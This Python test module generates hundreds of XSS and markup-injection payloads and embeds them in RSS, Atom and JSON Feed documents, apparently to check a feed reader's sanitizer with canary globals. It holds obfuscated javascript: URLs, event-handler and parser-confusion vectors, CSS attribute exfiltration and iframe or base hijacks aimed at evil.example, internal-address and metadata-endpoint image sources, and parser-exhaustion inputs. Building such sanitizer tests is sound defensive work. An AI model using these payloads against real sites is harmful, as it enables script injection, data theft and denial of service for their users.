"""Markup that attacks whoever reads it, written as families: rows F1-F7 and F10 of the fault list, tag by attribute by spelling.

    for name, markup in payloads("F2").items():      # "F2-tab": …

The documents carry each payload in every place of an entry of its own.

A script in the n-th payload, if it ever runs, sets the global `pwned<n>` of the topmost window: `canary_of` says which one.
"""

from __future__ import annotations

import json
import re
from base64 import b64encode
from collections.abc import Iterable, Iterator, Mapping
from contextlib import suppress
from datetime import UTC, datetime, timedelta
from functools import cache
from html import escape
from itertools import cycle, product
from xml.etree import ElementTree

import html5lib

#: Stands in a template for a script that leaves a trace; without white space, quotes, or anything that ends a tag.
RUN = "@@"
#: Hosts that payloads send a browser to, beside those of pictures that a post may show.
EVIL = "evil.example"

EVENTS = """
    onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput
    onbeforeprint onbeforetoggle onbeforeunload onbegin onblur oncancel oncanplay oncanplaythrough onchange onclick onclose
    oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop
    ondurationchange onemptied onend onended onerror onfocus onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture
    onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadend onloadstart
    onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel
    onpagehide onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove
    onpointerout onpointerover onpointerup onpopstate onprogress onratechange onreadystatechange onrepeat onreset onresize onscroll
    onscrollend onsearch onseeked onseeking onselect onselectionchange onselectstart onshow onstalled onstart onsubmit onsuspend
    ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitionend ontransitionrun onunhandledrejection
    onunload onvolumechange onwaiting onwebkitanimationend onwheel onxyzunknown
"""
#: Start tags that take a handler and need no end.
BEARERS = (
    "img src=x", "p", "a href=https://ok.example/", "svg", "math", "body", "video src=x", "audio src=x", "details open", "input autofocus",
    "iframe src=https://www.youtube.com/embed/1", "table", "td", "b", "marquee", "object data=x", "x-custom", "source src=x", "select",
    "picture", "button", "div", "blockquote", "form",
)  # fmt: skip

SCHEME = "javascript"
ADDRESSES = {
    "plain": f"{SCHEME}:{RUN}",
    "capitals": f"JaVaScRiPt:{RUN}",
    "decimal": "".join(f"&#{ord(letter)};" for letter in f"{SCHEME}:") + RUN,
    "decimal without end": "".join(f"&#{ord(letter):07}" for letter in f"{SCHEME}:") + RUN,
    "hexadecimal": "".join(f"&#x{ord(letter):x};" for letter in f"{SCHEME}:") + RUN,
    "hexadecimal capitals": "".join(f"&#X{ord(letter):06X}" for letter in f"{SCHEME}:") + f"\u200b{RUN}",
    "first letter": f"&#106;avascript:{RUN}",
    "colon": f"{SCHEME}&colon;{RUN}",
    "first letter and colon": f"&#x6a;avascript&colon;{RUN}",
    "Tab": f"java&Tab;script:{RUN}",
    "NewLine": f"java&NewLine;script:{RUN}",
    "tab": f"jav\ta\tscript\t:{RUN}",
    "line ends": f"java\nscr\r\nipt:{RUN}",
    "tab by number": f"java&#9;script&#10;:{RUN}",
    "white space before": f" \n\t {SCHEME}:{RUN}",
    "control before": f"&#1;{SCHEME}:{RUN}",
    "controls before": "".join(f"&#{code};" for code in range(1, 33)) + f"{SCHEME}:{RUN}",
    "raw control before": f"\x01\x1f{SCHEME}:{RUN}",
    "NUL": f"java\0script:{RUN}",
    "NUL by number": f"java&#0;script:{RUN}",
    "percent": f"{SCHEME}%3A{RUN}",
    "comment line": f"{SCHEME}://ok.example/%0A{RUN}",
    "comment line and host": f"{SCHEME}://%0d%0a{RUN}//https://ok.example/",
    "after a slash": f"/\\{SCHEME}:{RUN}",
    "behind a scheme": f"feed:{SCHEME}:{RUN}",
    "behind view-source": f"view-source:{SCHEME}:{RUN}",
    "fullwidth": f"ｊavascript：{RUN}",
    "soft hyphen": f"java\u00adscript&shy;:{RUN}",
    "vbscript": "vbscript:msgbox(1)",
    "vbscript mixed": "&#118;bs\tcript&colon;msgbox(1)",
    "livescript": f"livescript:{RUN}",
    "data HTML": f"data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;",
    "data HTML coded": "data:text/html;base64,PHNjcmlwdD50b3AucHduZWQwPTE8L3NjcmlwdD4=",
    "data SVG": f"data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{RUN}%22/&gt;",
    "data XHTML": f"DATA:application/xhtml+xml,&lt;script xmlns=%22http://www.w3.org/1999/xhtml%22&gt;{RUN}&lt;/script&gt;",
    "data text": f"data:,{RUN}",
    "data script": f"data:text/javascript,{RUN}",
    "blob": "blob:https://ok.example/1-2-3",
    "filesystem": "filesystem:https://ok.example/temporary/x",
    "file": "file:///etc/passwd",
    "about": "about:srcdoc",
    "jar and mhtml": "mhtml:http://evil.example/x!y",
}
#: Every attribute that holds an address, each in an element that a parser closes by itself or that is closed here.
HOLDERS = (
    '<a href="{}">x</a>', '<area href="{}">', '<img src="{}">', '<img srcset="{} 1x, {} 2x" src=/p.png>', '<img lowsrc="{}" dynsrc="{}">',
    '<img data-src="{}" data-original="{}">', '<picture><source srcset="{}"><img src=/p.png></picture>', '<video src="{}"></video>',
    '<video poster="{}"><source src="{}"><track src="{}"></video>', '<audio src="{}"></audio>', '<iframe src="{}"></iframe>',
    '<embed src="{}">', '<object data="{}"></object>', '<object classid="{}" codebase="{}"><param name=movie value="{}"></object>',
    '<blockquote cite="{}">x</blockquote>', '<q cite="{}">x</q>', '<del cite="{}">x</del><ins cite="{}">x</ins>',
    '<table background="{}"><tr><td background="{}">x</td></tr></table>', '<a ping="{}" href=/x>x</a>', '<bgsound src="{}">',
    '<svg><a href="{}"><text y=20>x</text></a></svg>', '<svg><a xlink:href="{}"><text y=20>x</text></a><use xlink:href="{}#x" /></svg>',
    '<svg><image href="{}" xlink:href="{}" /><feImage xlink:href="{}" /><script href="{}" xlink:href="{}"></script></svg>',
    '<svg><a><animate attributeName=href values="{}" /><set attributeName=xlink:href to="{}" /><text y=20>x</text></a></svg>',
    '<math href="{}"><mtext xlink:href="{}">x</mtext></math>', '<form action="{}"><input type=submit formaction="{}"></form>',
    '<button formaction="{}">x</button><input type=image src="{}">', '<script src="{}"></script>', '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<p style="background:url({})">x</p>', '<base href="{}">',
)  # fmt: skip

ROOTS = (
    "", "<svg>", "<math>", "<svg><foreignObject>", "<svg><desc>", "<svg><title>", "<svg></p>", "<svg><p>", "<math><mtext>", "<math><mi>",
    "<math><annotation-xml encoding='text/html'>", "<math><annotation-xml encoding='application/xhtml+xml'>", "<math><annotation-xml>",
    "<math><mtext><table><mglyph>", "<math><mtext><mglyph>", "<math><mi><malignmark>", "<form><math><mtext></form><form><mglyph>",
    "<table><svg>", "<select><svg>", "<table><tr><td><math>", "<svg><math>", "<math><svg><desc>", "<p><svg></svg><math></p>",
)  # fmt: skip
RAW = (
    "style",
    "script",
    "title",
    "textarea",
    "noscript",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "template",
    "select",
    "plaintext",
    "desc",
)
#: Shapes of what an element that is text in one reading and markup in another one may hold; {0} is that element.
SHAPES = (
    f"<{{0}}><img src=x onerror={RUN}></{{0}}>",
    f"<{{0}}><a title=\"</{{0}}><img src=x onerror={RUN}>\"></a></{{0}}>",
    f"<{{0}}><!--</{{0}}><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'></{{0}}>",
    f"<{{0}}><![CDATA[</{{0}}><img src=x onerror={RUN}>]]></{{0}}>",
    f"<{{0}} id=\"</{{0}}><svg/onload={RUN}>\">&lt;/{{0}}&gt;&lt;img src=x onerror={RUN}&gt;</{{0}}>",
)  # fmt: skip

OPENERS = (
    "<!-->", "<!--->", "<!---->", "<!-- a --!>", "<!----!>", "<!--a--!-->", "<!-- <!-- -->", "<!--[if IE]>", "<!--[if !IE]> -->",
    "<![if IE]>", "<![endif]-->", "<![CDATA[", "<![CDATA[>", "<svg><![CDATA[", "<?", "<?xml >", "<?php echo '",
    "<?xml-stylesheet href='javascript:@@'?>", "<!DOCTYPE ", "<!DOCTYPE html [<!ENTITY x '", "<!", "<!>", "</ ", "</>", "</3 ", "<%",
    "<!-", "<!-- >", "<!--\0-->", "&lt;!--", "<//", "<!--#exec cmd='x'-->", "<comment>", "<svg><!--", "<style><!--",
    "<title><!--</title>",
)  # fmt: skip
CLOSERS = ("-->", "--!>", "]]>", "?>", ">", "")

STYLES = (
    "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;opacity:0", f"width:expression({RUN})",
    "behavior:url(//evil.example/x.htc)", f"background:url(javascript:{RUN})", "background:url(https://evil.example/a.png)",
    "-moz-binding:url(//evil.example/x.xml#y)", "w\\69 dth:e\\78 pression(1)", "background:u\\72l(//evil.example/b.png)",
    "content:url(//evil.example/c.png)", "cursor:url(//evil.example/d)", "list-style-image:url(//evil.example/e.png)", "animation:x 1s",
    "@import '//evil.example/x.css'", "background:/**/url('//evil.example/f')",
)  # fmt: skip
SHEETS = (
    "@import 'https://evil.example/x.css';", "@import url(//evil.example/y.css);", f"*{{width:expression({RUN})}}",
    "@font-face{font-family:x;src:url(//evil.example/z.woff)}*{font-family:x}", "p{background:url(//evil.example/p.png)}",
    "input[value^=a]{background:url(//evil.example/a)}", f"</style><img src=x onerror={RUN}>",
)  # fmt: skip
EMBEDDED = (
    "<iframe src=https://evil.example/></iframe>",
    "<iframe src=//evil.example/ sandbox='allow-scripts allow-same-origin allow-top-navigation'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;img src=x onerror={RUN}&gt;' src=https://www.youtube.com/embed/1></iframe>",
    "<iframe src='https://www.youtube.com@evil.example/'></iframe>", "<iframe src='https://www.youtube.com\\@evil.example/'></iframe>",
    "<iframe src='https://www.youtube.com.evil.example/'></iframe>", "<iframe src='https://evil.example#@www.youtube.com/'></iframe>",
    "<iframe src='https://www.youtube.com:8443/'></iframe>", "<iframe src='https://evil.example/https://www.youtube.com/'></iframe>",
    f"<iframe src=https://www.youtube.com/embed/1 onload={RUN} allow=camera name=x style=position:fixed></iframe>",
    f"<iframe/src=https://www.youtube.com/embed/1></iframe\n><iframe><img src=x onerror={RUN}></iframe>",
    "<object data=//evil.example/x.html type=text/html></object>", f"<object><img src=x onerror={RUN}></object>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>", "<applet code=x.class archive=//evil.example/x.jar></applet>",
    "<frameset><frame src=//evil.example/></frameset>", "<portal src=//evil.example/></portal>",
    "<fencedframe src=//evil.example/></fencedframe>", "<layer src=//evil.example/></layer>", "<xml src=//evil.example/x.xml></xml>",
    "<webview src=//evil.example/></webview>", f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "<isindex action=//evil.example/ type=image>", f"<video><source onerror={RUN}><track default src=//evil.example/x.vtt></video>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>",
)  # fmt: skip
RELATIONS = """
    stylesheet alternate-stylesheet import prefetch preconnect dns-prefetch preload modulepreload manifest icon shortcut-icon canonical
    prerender search author pingback
"""
PAGE = (
    "<base href=//evil.example/ target=_top><a href=x>x</a><img src=y>", "<base target=_top>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Set-Cookie content='a=b'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta charset=utf-7>+ADw-script+AD4-", "<meta name=referrer content=unsafe-url>",
    f"<form action=//evil.example/><input name=password autofocus onfocus={RUN}></form>",
    f"<form id=f></form><button form=f formaction=javascript:{RUN}>x</button>",
    f"<input type=image src=x formaction=javascript:{RUN} onerror={RUN}>", f"<isindex type=image src=1 onerror={RUN}>",
    f"<keygen autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<textarea autofocus onfocus={RUN}>x</textarea>", "<a href=/x ping=//evil.example/ target=_blank rel=opener download>x</a>",
    f"<a href=/x target=\"<script>{RUN}</script>\">x</a>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<button popovertarget=p>x</button><p popover id=p onbeforetoggle={RUN}>y</p>",
    f"<html onclick={RUN}><head><title>t</title><body onload={RUN} background=javascript:{RUN}>x",
    "<div slot=x part=y is=z itemprop=q contenteditable accesskey=x tabindex=1>x</div>",
    f"<script type=importmap>{{\"imports\":{{\"x\":\"data:text/javascript,{RUN}\"}}}}</script>",
    "<div data-bind=html:x v-html=x ng-app ng-bind-html=x x-html=y>{{constructor.constructor('alert(1)')()}}</div>",
)  # fmt: skip
CLOBBERED = """
    document body forms cookie domain location top self parent window name attributes childNodes firstChild nodeName getElementById
    querySelector createElement innerHTML implementation currentScript defaultView scripts head children __proto__ constructor toString
    submit action said filter
"""

UNCLOSED = """
    a abbr article b blockquote button caption center code dd details div dl dt em fieldset figure font form h1 i label li marquee nobr ol
    option p picture pre q rp rt ruby s select span strong sub sup table tbody td template textarea tfoot th thead title tr u ul video xmp
"""
BROKEN = (
    "</div></body></html>x", "</div></article></main></body></html><h1>y</h1>", "</p></br></b></td></tr></table>x",
    "<plaintext>x</p></div>", f"<plaintext><script>{RUN}</script>", f"<template><script>{RUN}</script><p>x</template><template>",
    f"<template><img src=x onerror={RUN}>", f"<img src=x onerror={RUN} ", f"<img src=\"x onerror={RUN}>", "<p title='x", "<p", "<", "</",
    "<a href='", "&", "&#", "&#x", "&lt", "<p/><b/><i/>x", "<b><i>x</b>y</i><p><div></p></div><table><b><tr><i><td>z</table>",
    "<table><table><td><p></table>x", "<a><table><a></table></a>x", "<form><form></form>x</form><button><button>",
    "<select><option><p>x<select>", "<frameset><frame></frameset>x", "<li><p><li></p><ul></li></ul>x",
)  # fmt: skip
#: (opening, closing, how often): what grows with the square of its size where somebody is careless.
MASSES = (
    ("<div>", "", 3_000), ("<div>", "</div>", 3_000), ("<ul><li>", "", 1_500), ("<b>", "", 2_000), ("<b><p>", "", 1_000),
    ("<a>", "", 2_000), ("<table><tr><td>", "", 500), ("<font a=1><i>", "", 1_000), ("<svg>", "", 1_000), ("<math><mi>", "", 700),
    ("<!--", "", 3_000), ("<![CDATA[", "", 2_000), ("</p>", "", 2_000), ("<template>", "", 500), ("<select><option>", "", 500),
    ("&#106;", "", 3_000), ("<", "", 5_000), ("<p title='", "", 2_000),
)  # fmt: skip

TRACKERS = (
    "<img src=https://t.example/p.gif width=1 height=1>", "<img src=https://t.example/q.gif width=0 height=1px>",
    "<img src=http://127.0.0.1/x.gif>", "<img src=http://127.1:9/x.gif><img src=http://2130706433/x.gif><img src='http://0x7f.1/x.gif'>",
    "<img src=http://localhost:1/x.gif>",
    "<img src=http://[::1]/x.gif><img src=http://10.0.0.1/x.gif><img src=http://192.168.0.1/x.gif><img src=http://169.254.169.254/x>",
    "<img src=https://i.example/a.png srcset='http://127.0.0.1/b.png 2x'>",
    "<picture><source srcset=http://10.1.2.3/c.png><img src=https://i.example/d.png></picture>",
    "<video poster=http://127.0.0.1/e.png src=http://127.0.0.1/f.mp4></video>",
    "<img data-src=http://localhost/g.png src=https://i.example/h.png>",
)  # fmt: skip


def _scripts() -> Iterator[tuple[str, str]]:
    opened = (
        "<script>", "<SCRIPT >", "<sCrIpT\t>", "<script\n>", "<script/x>", "<script\f>", "<<script>", "<script <b>",
        "<script type=text/javascript>", "<script type=module>", "<script\0>", "<scr\0ipt>", "<scr<script>ipt>", "<script x='>'>",
        "<script/src=data:,@@ >", "<svg><script>", "</p><script>", "<b><script>", "<table><script>", "<script language=JavaScript1.2>",
        "<scrıpt>", "<ſcript>", "<script\x0b>", "<xhtml:script>", "<x><script>",
    )  # fmt: skip
    closed = ("</script>", "</SCRIPT >", "</script\n>", "</script/x>", "</scr</script>ipt>", "</script x='>'>", "")
    for number, (start, end) in enumerate(product(opened, closed)):
        yield f"F1-script {number}", f"{start}{RUN}{'//' if '<' in end[1:] else ''}{end}<p>x</p>"
    sources = ("//evil.example/x.js", "https://evil.example/x.js", "\\\\evil.example\\x.js", f"data:text/javascript,{RUN}")
    for source in sources:
        yield (
            f"F1-script from {source[:8]}",
            f"<script src={source}></script><SCRIPT/SRC='{source}' defer></SCRIPT><script async src={source} <b>",
        )


def _handlers() -> Iterator[tuple[str, str]]:
    between = (" ", "/", "\n", "\t", "\f", "\r\n", " x='y'", ' x="y"', "/x/", " /\t/")
    written = (f"={RUN}", f" = {RUN}", f"='{RUN}'", f'="{RUN}"', f"=\n`{RUN}`", "=&#116;op.pwned{0}=1")
    for number, (gap, value) in enumerate(product(between, written)):
        names = [name.upper() if number % 3 == 1 else name.title() if number % 3 == 2 else name for name in EVENTS.split()]
        bearers = cycle(BEARERS[number % len(BEARERS) :] + BEARERS[: number % len(BEARERS)])
        chosen = names[number % 5 :: 5]  # of every way of writing a fifth of the names: each name is written in twelve ways
        yield f"F1-handlers {number}", "".join(f"<{bearer}{gap}{name}{value}>" for bearer, name in zip(bearers, chosen, strict=False))


def _addresses() -> Iterator[tuple[str, str]]:
    for name, address in ADDRESSES.items():
        yield f"F2-{name}", "".join(holder.replace("{}", address) for holder in HOLDERS)
    for name, address in ADDRESSES.items():
        if not re.search(r"[\s\"'>\0\x01]", address):
            yield f"F2-{name} without quotes", f"<a href={address}>x</a><a href='{address}'>x</a><img src={address}><a/href={address}>x</a>"


def _foreign() -> Iterator[tuple[str, str]]:
    for root, name in product(ROOTS, RAW):
        yield f"F3-{name} in {root or 'nothing'}", root + "".join(shape.format(name) for shape in SHAPES)
    for name in ("animate", "set", "animateTransform", "animateMotion", "discard", "mpath"):
        spelled = f"<svg><a id=x><{name} attributeName=href begin=0s from=javascript:{RUN} to=javascript:{RUN} "
        yield (
            f"F3-{name}",
            f"{spelled} values=javascript:{RUN} onbegin={RUN} onend={RUN} onrepeat={RUN} dur=1s /><text y=20>x</text></a></svg>"
            f"<svg><{name} xlink:href=#x attributeName=onload to={RUN} /></svg>",
        )


def _comments() -> Iterator[tuple[str, str]]:
    for start, end in product(OPENERS, CLOSERS):
        yield f"F4-{start} {end}", f"{start}<img src=x onerror={RUN}><script>{RUN}</script>{end}<p>x</p>"


def _styles() -> Iterator[tuple[str, str]]:
    for number, style in enumerate(STYLES):
        named = ("p", "div", "span", "img src=/p.png", "a href=/x", "table", "svg", "video", "iframe src=https://www.youtube.com/embed/1")
        yield f"F5-style {number}", "".join(f'<{name} style="{style}">' for name in named)
    for number, sheet in enumerate(SHEETS):
        yield (
            f"F5-sheet {number}",
            f"<style>{sheet}</style><STYLE type=text/css media=all>{sheet}</STYLE\n><svg><style>{sheet}</style></svg><p>x</p>",
        )
    for number, markup in enumerate(EMBEDDED):
        yield f"F5-embedded {number}", f"{markup}<p>x</p>"


def _pages() -> Iterator[tuple[str, str]]:
    for number, markup in enumerate(PAGE):
        yield f"F6-page {number}", f"{markup}<p>x</p>"
    yield (
        "F6-relations",
        "".join(f"<link rel='{name.replace('-', ' ')}' href=//evil.example/{name} as=script>" for name in RELATIONS.split()),
    )
    yield (
        "F6-clobbering",
        "".join(f"<a id={name} name={name} href=/x>x</a><img name={name} id={name} src=/p.png>" for name in CLOBBERED.split()),
    )
    yield (
        "F6-clobbering forms",
        "".join(f"<form name={name} id={name}><input name={name} id={name}></form><p id={name}>" for name in CLOBBERED.split()),
    )
    yield (
        "F6-classes",
        "".join(f"<p class='{name}'>x</p>" for name in ("still", "row", "tools", "said", "lead", "out", "facts trail", "nothing")),
    )


def _broken() -> Iterator[tuple[str, str]]:
    for name in UNCLOSED.split():
        yield f"F7-unclosed {name}", f"<{name}><p>x<{name}><img src=x onerror={RUN}>"
    for number, markup in enumerate(BROKEN):
        yield f"F7-broken {number}", markup
    for number, (start, end, count) in enumerate(MASSES):
        yield f"F7-mass {number} of {start}", start * count + f"<img src=x onerror={RUN}>x" + end * count
    yield "F7-attributes", "<p " + " ".join(f"a{number}=1" for number in range(5_000)) + f" onclick={RUN}>x</p>"
    yield "F7-same attribute", f"<p {'title=a ' * 3_000}onclick={RUN}>x</p><p {f'onclick={RUN} ' * 1_000}>y</p>"


def _trackers() -> Iterator[tuple[str, str]]:
    for number, markup in enumerate(TRACKERS):
        yield f"F10-{number}", f"{markup}<p>x</p>"


FAMILIES = {
    "F1": (_scripts, _handlers),
    "F2": (_addresses,),
    "F3": (_foreign,),
    "F4": (_comments,),
    "F5": (_styles,),
    "F6": (_pages,),
    "F7": (_broken,),
    "F10": (_trackers,),
}


@cache
def payloads(*families: str) -> dict[str, str]:
    """Return the payloads of these families, of all where none is named, by name; the n-th of all of them is always the same."""
    found: dict[str, str] = {}
    for makers in FAMILIES.values():
        for name, markup in (pair for make in makers for pair in make()):
            assert name not in found, name
            number = len(found)
            found[name] = markup.replace(RUN, f"top.{canary_of(number)}=1").replace("pwned{0}", canary_of(number))
    return {name: markup for name, markup in found.items() if not families or name.partition("-")[0] in families}


def canary_of(number: int) -> str:
    """The name of the global that the payload of this number sets."""
    return f"pwned{number}"


#: What Atom may say of a text's type, with what is no type at all.
KINDS = (
    "html", "text", "xhtml", "text/html", "text/plain", "application/xhtml+xml", "image/svg+xml", "application/octet-stream",
    "text/javascript", "application/xml", "message/rfc822", "TEXT/HTML; charset=utf-7", "javascript:x", "",
)  # fmt: skip
_XHTML = "http://www.w3.org/1999/xhtml"
#: No XML document has these, and a JSON Feed may.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def rss_document(markups: Mapping[int, str]) -> bytes:
    """An RSS document: each markup in every place of an item of its own, once escaped and once as CDATA."""
    return _rss(rss_item(number, markup) for number, markup in markups.items())


def rss_item(number: int, markup: str) -> str:
    """An item with this markup in every place."""
    text = _escaped(markup)
    cdata = f"<![CDATA[{_NOT_XML.sub('', markup).replace(']]>', ']]]]><![CDATA[>')}]]>"
    link = (f"https://up.example/{number}", text, f"https://up.example/{number}?x={text}#{text}")[number % 3]
    return (
        f"<item><guid>{number} {text[:300].rpartition('&')[0]}</guid><link>{link}</link><pubDate>{_date(number)}</pubDate>"
        f"<title>{(text, cdata)[number % 2]}</title><author>{text}</author><dc:creator>{cdata}</dc:creator><category>{text}</category>"
        f'<enclosure url="{text}" type="audio/mpeg" length="1"/><media:thumbnail url="{text}"/><media:content url="{text}" medium="image"/>'
        f"<description>{(cdata, text)[number % 2]}</description></item>"
    )


def _rss(items: Iterable[str]) -> bytes:
    spaces = 'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/"'
    title = _escaped("<script>top.pwned=1</script><img src=x onerror=top.pwned=1>&lt;b&gt;Feed")
    head = f"<title>{title}</title><link>javascript:top.pwned=1</link><description>{title}</description>"
    head += f"<managingEditor>{title}</managingEditor>"
    return f'<?xml version="1.0"?><rss version="2.0" {spaces}><channel>{head}{"".join(items)}</channel></rss>'.encode("utf-8", "replace")


def atom_document(markups: Mapping[int, str], kind: str = "html", coding: str = "escaped") -> bytes:
    """An Atom document whose texts are of this kind; `coding`: "escaped", "base64", or "inline", as XML's own elements."""

    def entry(number: int, markup: str) -> str:
        text, shown = _escaped(markup), _coded(markup, coding)
        of = f'type="{kind}"' if kind else ""
        return (
            f"<entry><id>urn:{number}:{text[:300].rpartition('&')[0]}</id><title {of}>{shown}</title><updated>{_date(number)}</updated>"
            f'<author><name>{text}</name><uri>{text}</uri></author><link href="{(text, f"https://up.example/{number}")[number % 2]}"/>'
            f'<link rel="enclosure" href="{text}" type="image/png"/><category term="{text}" label="{text}" scheme="{text}"/>'
            f'<summary {of}>{shown}</summary><content {of} xml:base="{text}">{shown}</content></entry>'
        )

    head = '<title type="html">&lt;script&gt;top.pwned=1&lt;/script&gt;</title><link href="javascript:top.pwned=1"/><id>urn:f</id>'
    entries = "".join(entry(number, markup) for number, markup in markups.items())
    return f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom">{head}{entries}</feed>'.encode("utf-8", "replace")


def json_document(markups: Mapping[int, str]) -> bytes:
    """A JSON Feed: each markup as the text of a link, and in every other place as it stands, controls too."""
    items = [
        {
            "id": f"{number} {markup[:300]}",
            "url": (markup, f"https://up.example/{number}")[number % 2],
            "external_url": markup,
            "title": markup,
            "date_published": _date(number),
            "authors": [{"name": markup, "url": markup, "avatar": markup}],
            "tags": [markup],
            "image": markup,
            "content_html": f'<a href="https://ok.example/">{markup}</a>',
            "attachments": [{"url": markup, "mime_type": "video/mp4", "size_in_bytes": 1, "title": markup}],
        }
        for number, markup in markups.items()
    ]
    head = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "<script>top.pwned=1</script>",
        "home_page_url": "javascript:top.pwned=1",
    }
    return json.dumps(head | {"items": items}).encode()


def numbered(*families: str, every: int = 1, first: int = 0) -> dict[int, str]:
    """The payloads of these families by number; of all of them each `every`-th, from the `first` on."""
    whole = {name: number for number, name in enumerate(payloads())}
    chosen = {whole[name]: markup for name, markup in payloads(*families).items()}
    return dict(list(chosen.items())[first % every :: every])


def _date(number: int) -> str:
    return (datetime(2026, 1, 1, tzinfo=UTC) + timedelta(minutes=number)).isoformat()


def _escaped(markup: str) -> str:
    return escape(_NOT_XML.sub("", markup))


def _coded(markup: str, coding: str) -> str:
    if coding == "base64":
        return b64encode(markup.encode("utf-8", "replace")).decode()
    if coding == "inline" and markup.count("<") < 200:  # XML that is deeper is refused whole
        tree = html5lib.parseFragment(markup, container="div", namespaceHTMLElements=True)
        tree.tag = f"{{{_XHTML}}}div"
        with suppress(ElementTree.ParseError, RecursionError):  # names that XML does not have; what is too deep
            written = ElementTree.tostring(tree, encoding="unicode")
            ElementTree.fromstring(written)
            return written
    return _escaped(markup)
